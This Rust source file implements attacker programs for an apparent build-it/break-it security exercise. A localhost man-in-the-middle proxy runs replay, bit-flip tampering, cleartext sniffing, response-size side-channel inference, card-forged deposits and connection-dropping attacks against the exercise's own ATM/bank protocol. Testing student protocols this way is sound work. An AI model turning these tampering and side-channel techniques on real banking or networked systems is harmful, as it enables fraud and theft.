// Copyright (C) 2026 The breakit Authors. All rights reserved.
//
// SPDX-License-Identifier: Apache-2.0

//! Attacker programs for the MITM harness.
//!
//! Each strategy runs a frame-aware proxy on the listen port and drives the
//! session over the control channel.

use std::io;
use std::net::{Shutdown, TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use breakit_core::bank::Operation;
use breakit_core::currency::Amount;

use crate::atm::{read_frame, write_frame, WireRequest};
use crate::mitm::{ControlClient, ControlRequest, GuessKind};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Strategy {
    /// Forwards everything and issues an ordinary workload.
    Passthrough,
    /// Resends a withdrawal to the bank on its own connection.
    Replay,
    /// Flips a digit of a deposit amount in transit.
    Bitflip,
    /// Reads the secret amount out of a cleartext create request.
    Sniff,
    /// Learns the secret balance from response sizes, masking failures by
    /// substituting an earlier success response.
    Binsearch,
    /// Closes every atm connection.
    Drop,
    /// Accepts atm connections and never answers.
    Blackhole,
    /// Uses a revealed card to move money on its own.
    Card,
    /// Guesses an amount at random.
    RandomGuess,
    /// Declares done immediately.
    Idle,
    /// Never contacts the control port.
    Absent,
}

impl Strategy {
    pub const ALL: [Strategy; 11] = [
        Strategy::Passthrough,
        Strategy::Replay,
        Strategy::Bitflip,
        Strategy::Sniff,
        Strategy::Binsearch,
        Strategy::Drop,
        Strategy::Blackhole,
        Strategy::Card,
        Strategy::RandomGuess,
        Strategy::Idle,
        Strategy::Absent,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Strategy::Passthrough => "passthrough",
            Strategy::Replay => "replay",
            Strategy::Bitflip => "bitflip",
            Strategy::Sniff => "sniff",
            Strategy::Binsearch => "binsearch",
            Strategy::Drop => "drop",
            Strategy::Blackhole => "blackhole",
            Strategy::Card => "card",
            Strategy::RandomGuess => "random-guess",
            Strategy::Idle => "idle",
            Strategy::Absent => "absent",
        }
    }

    pub fn parse(s: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|x| x.name() == s)
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ConnMode {
    Forward,
    Close,
    Hold,
}

/// What the proxy does to the frames of the next connections.
#[derive(Debug, Default)]
struct Tap {
    /// Client frames of every connection, in order.
    client_frames: Vec<Vec<Vec<u8>>>,
    /// Flip `frame[len - 7]` of the next client request by this mask.
    flip_next: Option<u8>,
    /// Replace failure responses with this frame.
    substitute: Option<Vec<u8>>,
    /// Size of the last bank response seen.
    last_response_len: Option<usize>,
    /// First bank response ever seen.
    first_response: Option<Vec<u8>>,
}

type Shared = Arc<Mutex<Tap>>;

/// `{"ok":false}` in the clear, and sealed with a nonce and tag.
fn is_failure_response(len: usize) -> bool {
    len == 12 || len == 12 + 12 + 32
}

fn proxy(listen: u16, bank: u16, mode: ConnMode, tap: Shared) -> io::Result<()> {
    let listener = TcpListener::bind(("127.0.0.1", listen))?;
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(client) = conn else { continue };
            match mode {
                ConnMode::Close => drop(client),
                ConnMode::Hold => {
                    std::thread::spawn(move || {
                        std::thread::sleep(Duration::from_secs(3600));
                        drop(client);
                    });
                }
                ConnMode::Forward => {
                    let tap = tap.clone();
                    std::thread::spawn(move || {
                        let _ = forward(client, bank, tap);
                    });
                }
            }
        }
    });
    Ok(())
}

fn forward(client: TcpStream, bank: u16, tap: Shared) -> io::Result<()> {
    let server = TcpStream::connect(("127.0.0.1", bank))?;
    let conn = {
        let mut t = tap.lock().unwrap();
        t.client_frames.push(Vec::new());
        t.client_frames.len() - 1
    };
    let (mut c_read, mut c_write) = (client.try_clone()?, client);
    let (mut s_read, mut s_write) = (server.try_clone()?, server);
    let tap2 = tap.clone();
    let down = std::thread::spawn(move || {
        while let Ok(mut frame) = read_frame(&mut s_read) {
            {
                let mut t = tap2.lock().unwrap();
                t.last_response_len = Some(frame.len());
                if t.first_response.is_none() && !is_failure_response(frame.len()) {
                    t.first_response = Some(frame.clone());
                }
                if is_failure_response(frame.len()) {
                    if let Some(sub) = &t.substitute {
                        frame = sub.clone();
                    }
                }
            }
            if write_frame(&mut c_write, &frame).is_err() {
                break;
            }
        }
        let _ = c_write.shutdown(Shutdown::Both);
    });
    while let Ok(mut frame) = read_frame(&mut c_read) {
        {
            let mut t = tap.lock().unwrap();
            if let Some(mask) = t.flip_next.take() {
                if frame.len() >= 7 {
                    let i = frame.len() - 7;
                    frame[i] ^= mask;
                }
            }
            t.client_frames[conn].push(frame.clone());
        }
        if write_frame(&mut s_write, &frame).is_err() {
            break;
        }
    }
    let _ = s_write.shutdown(Shutdown::Write);
    let _ = down.join();
    Ok(())
}

/// Opens a fresh bank connection, sends `frames` and drains the reply.
fn inject(bank: u16, frames: &[Vec<u8>]) -> io::Result<()> {
    let mut s = TcpStream::connect(("127.0.0.1", bank))?;
    s.set_read_timeout(Some(Duration::from_secs(2)))?;
    for f in frames {
        write_frame(&mut s, f)?;
    }
    let _ = s.shutdown(Shutdown::Write);
    while read_frame(&mut s).is_ok() {}
    Ok(())
}

fn guess(ctl: &mut ControlClient, kind: GuessKind, value: String) -> io::Result<()> {
    ctl.call(&ControlRequest::Guess { kind, value }).map(|_| ())
}

pub fn run(strategy: Strategy, listen: u16, bank: u16, control: u16) -> io::Result<()> {
    if strategy == Strategy::Absent {
        std::thread::sleep(Duration::from_secs(3600));
        return Ok(());
    }
    let tap: Shared = Arc::default();
    let mode = match strategy {
        Strategy::Drop => ConnMode::Close,
        Strategy::Blackhole => ConnMode::Hold,
        _ => ConnMode::Forward,
    };
    proxy(listen, bank, mode, tap.clone())?;
    let mut ctl = ControlClient::connect(control)?;
    match strategy {
        Strategy::Passthrough => {
            for args in [
                &["-a", "$ACCOUNT$", "-n", "$AMOUNT$"][..],
                &["-a", "$ACCOUNT$", "-d", "1.00"],
                &["-a", "$ACCOUNT$", "-g"],
                &["-a", "alice", "-n", "100.00"],
                &["-a", "alice", "-w", "30.00"],
                &["-a", "alice", "-w", "500.00"],
                &["-a", "alice", "-n", "100.00"],
                &["-a", "nobody", "-g"],
                &["-a", "alice", "-g"],
            ] {
                ctl.run_atm(args)?;
            }
        }
        Strategy::Replay => {
            ctl.run_atm(&["-a", "victim", "-n", "100.00"])?;
            ctl.run_atm(&["-a", "victim", "-w", "10.00"])?;
            let frames = tap.lock().unwrap().client_frames.last().cloned().unwrap_or_default();
            inject(bank, &frames)?;
        }
        Strategy::Bitflip => {
            ctl.run_atm(&["-a", "victim", "-n", "100.00"])?;
            tap.lock().unwrap().flip_next = Some(b'1' ^ b'9');
            ctl.run_atm(&["-a", "victim", "-d", "10.00"])?;
        }
        Strategy::Sniff => {
            ctl.run_atm(&["-a", "$ACCOUNT$", "-n", "$AMOUNT$"])?;
            let frame = tap.lock().unwrap().client_frames.last().and_then(|c| c.last().cloned());
            let parsed = frame.and_then(|f| serde_json::from_slice::<WireRequest>(&f).ok());
            if let Some(req) = parsed {
                if let Some(a) = req.amount {
                    guess(&mut ctl, GuessKind::Amount, a.to_string())?;
                }
                guess(&mut ctl, GuessKind::Account, req.account)?;
            } else {
                guess(&mut ctl, GuessKind::Amount, "10.00".into())?;
            }
        }
        Strategy::Binsearch => {
            ctl.run_atm(&["-a", "$ACCOUNT$", "-n", "$AMOUNT$"])?;
            let success = tap.lock().unwrap().first_response.clone();
            tap.lock().unwrap().substitute = success;
            let (mut lo, mut hi) = (1000u64, Amount::MAX.cents());
            while lo < hi {
                let mid = lo + (hi - lo).div_ceil(2);
                let amount = Amount::from_cents(mid).expect("in range").to_string();
                tap.lock().unwrap().last_response_len = None;
                ctl.run_atm(&["-a", "$ACCOUNT$", "-w", &amount])?;
                let len = tap.lock().unwrap().last_response_len;
                if len.is_some_and(|l| !is_failure_response(l)) {
                    lo = mid;
                    ctl.run_atm(&["-a", "$ACCOUNT$", "-d", &amount])?;
                } else {
                    hi = mid - 1;
                }
            }
            guess(&mut ctl, GuessKind::Amount, Amount::from_cents(lo).expect("in range").to_string())?;
        }
        Strategy::Drop | Strategy::Blackhole => {
            ctl.run_atm(&["-a", "victim", "-n", "100.00"])?;
            ctl.run_atm(&["-a", "victim", "-g"])?;
        }
        Strategy::Card => {
            ctl.run_atm(&["-a", "holder", "-n", "100.00"])?;
            let card = ctl.call(&ControlRequest::GetCard { account: "holder".into() })?.card;
            let create = tap.lock().unwrap().client_frames.last().and_then(|c| c.last().cloned());
            let auth = create
                .and_then(|f| serde_json::from_slice::<WireRequest>(&f).ok())
                .map(|r| r.auth);
            if let (Some(card), Some(auth)) = (card, auth) {
                let req = WireRequest {
                    auth,
                    op: Operation::Deposit,
                    account: "holder".into(),
                    card: card.trim().into(),
                    amount: Some(Amount::from_whole(500)),
                    nonce: None,
                    challenge: None,
                };
                inject(bank, &[serde_json::to_vec(&req).expect("serializable")])?;
            }
            ctl.run_atm(&["-a", "holder", "-g"])?;
        }
        Strategy::RandomGuess => {
            ctl.run_atm(&["-a", "$ACCOUNT$", "-n", "$AMOUNT$"])?;
            let cents = rand::random_range(1000..=Amount::MAX.cents());
            guess(&mut ctl, GuessKind::Amount, Amount::from_cents(cents).expect("in range").to_string())?;
        }
        Strategy::Idle | Strategy::Absent => {}
    }
    ctl.done()
}
